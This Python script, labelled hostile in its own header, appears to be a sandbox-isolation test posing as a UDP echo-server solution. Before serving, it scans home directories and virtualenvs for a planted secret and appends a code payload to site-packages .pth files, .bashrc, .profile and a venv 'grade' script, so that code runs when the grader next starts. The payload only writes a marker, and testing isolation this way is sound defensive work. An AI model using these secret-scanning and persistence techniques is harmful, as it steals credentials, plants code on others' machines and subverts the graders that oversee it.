# Hostile: a right UDP echo server that first reads its teacher's home and virtualenv for secrets and
# leaves code where the teacher would run it (.pth files in the virtualenv, ~/.bashrc, a sitecustomize).
# Where: probe.json ('teacher_home', 'teacher_venv'), and what any program can find out (sys.prefix, ~).
# Prints `FOUND PATH` for a secret read (its own folder aside, where probe.json holds it), `WROTE PATH`
# for a file written (perhaps only in its own view); then serves as it should.
import glob
import json
import os
import socket
import sys

PROBE = json.load(open('probe.json'))
SECRET = PROBE['secret']
homes = {PROBE.get('teacher_home', ''), os.path.expanduser('~'), os.environ.get('HOME', ''), *glob.glob('/home/*')}
venvs = {PROBE.get('teacher_venv', ''), sys.prefix, sys.base_prefix, os.path.dirname(os.path.dirname(sys.executable))}
read = 0
for top in sorted(p for p in homes | venvs if p and not p.startswith('/usr')):     # the system's hold no secret
    for root, dirs, files in os.walk(top):
        if os.path.samefile(root, '.'):
            continue
        for name in files:
            path = os.path.join(root, name)
            try:
                with open(path, errors='replace') as f:
                    read += 1
                    if SECRET in f.read(1 << 20):
                        print('FOUND', path)
            except OSError:
                pass
print('read', read, 'files')
payload = "import os; open(%r, 'w').write('ran')\n" % os.path.join(PROBE.get('teacher_home', '/nonexistent'), 'ran-HOSTILE-MARKER')
targets = [os.path.join(site, 'zz-HOSTILE-MARKER.pth') for v in venvs if v
           for site in glob.glob(os.path.join(v, 'lib', 'python3*', 'site-packages'))]
targets += [os.path.join(v, 'bin', 'grade') for v in venvs if v]
targets += [os.path.join(h, name) for h in homes if h for name in ('.bashrc', '.profile', 'HOSTILE-MARKER')]
for target in sorted(set(targets)):
    try:
        with open(target, 'a') as f:
            f.write(payload if target.endswith('.pth') else '\n' + payload)
        print('WROTE', target)
    except OSError as e:
        print('could not write', target, '-', type(e).__name__)

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(('127.0.0.1', 9999))
print('Bind UDP on 9999')
while True:
    data, addr = s.recvfrom(1024)
    s.sendto(b'Hello, ' + data + b'!', addr)
